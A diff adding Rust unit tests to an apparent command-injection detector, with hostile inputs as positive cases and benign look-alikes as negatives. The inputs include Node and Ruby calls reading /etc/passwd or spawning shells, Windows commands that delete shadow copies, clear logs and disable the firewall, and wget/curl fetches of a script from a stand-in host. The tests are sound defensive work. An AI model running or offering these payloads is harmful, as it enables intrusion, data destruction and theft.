@@ -882,6 +882,67 @@ mod tests {
     }
 
     #[test]
+    fn node_file_and_process_calls_stalls_and_ruby_outside_json_text() {
+        use crate::fields::{Part, ValueType};
+        let at = |part, v: &str| scan_at(part, ValueType::Text, "q", v).iter().any(|f| f.kind == "attack.cmdi" && f.weight() >= 0.5);
+        for v in [
+            "fs.unlinkSync('/x')",
+            "require('fs').writeFileSync('/tmp/x','y')",
+            "fs.createReadStream('/etc/passwd')",
+            "fs.promises.readFile('/etc/passwd')",
+            "cp.fork('x.js')",
+            "spawn('sh',['-c','id'])",
+            "this.constructor['_load']('fs')",
+            "while(true){}",
+            "while ( !0 )",
+            "while(!!1)",
+            "Process.spawn(\"id\")",
+            "Kernel.exec('id')",
+            "IO.popen('id').read",
+            "Open3.capture2('id')",
+            "instance_eval('x')",
+            "%x(id)",
+        ] {
+            assert!(at(Part::Query, v), "{v}");
+            assert!(at(Part::Body, v), "{v} in a form field");
+        }
+        for v in ["while (true love) lasts", "while(we wait)", "spawn point (map 3)", "fork (git) the repo", "the binding agreement", "process spawning", "kernel 6.1 (lts)", "50%x(2)", "IO popen docs", "fsync (disabled)"] {
+            assert!(!at(Part::Query, v), "{v}");
+        }
+        // In a JSON text field they are a snippet, reported below the flag line.
+        for v in ["const data = fs.readFileSync('./config.json')", "while(true) { poll(); }", "Process.spawn('ls')"] {
+            assert!(!any_flag_in_json(v), "{v}");
+        }
+    }
+
+    #[test]
+    fn windows_tools_sourced_scripts_downloads_and_batch_loops() {
+        use crate::fields::{Part, ValueType};
+        let at = |part, v: &str| scan_at(part, ValueType::Text, "q", v).iter().any(|f| f.kind == "attack.cmdi" && f.weight() >= 0.5);
+        for v in [
+            "a|netsh firewall set opmode disable",
+            "&wevtutil cl system",
+            "x & vssadmin delete shadows /all",
+            "&attrib +h x",
+            ";. /tmp/x.sh",
+            "|. ./evil",
+            "&& . ~/payload",
+            "for /r %userprofile% %x in (*.doc) do type %x",
+            "for /r .\\ %x in (*) do del %x",
+            "FOR/L %i IN (1,1,9) DO ping x",
+            "IF EXIST",
+            "if not cmdextversion",
+        ] {
+            assert!(flags("attack.cmdi", v), "{v}");
+        }
+        assert!(at(Part::Query, "wget http://x.example/a.sh") && at(Part::Body, "curl -s -o /tmp/a https://x.example/a"));
+        assert!(!any_flag_in_json("wget https://example.com/release.zip"));
+        for v in ["R&D attrib (v2)", "wow. /s", "see . /docs", "for people in (London) do visit", "if exists, skip", "wget is a tool"] {
+            assert!(!flags("attack.cmdi", v), "{v}");
+        }
+    }
+
+    #[test]
     fn base64_markers_are_the_markers_encoded_at_each_alignment() {
         let mut expected = Vec::new();
         for marker in [&b"_$$ND_FUNC$$_"[..], b"__js_function", b"child_process", b"process.mainModule", b"eval(String.fromCharCode", b"process.binding", b"this.constructor", b"new Function(", b"String.fromCharCode", b"module.exports", b"global.process"] {
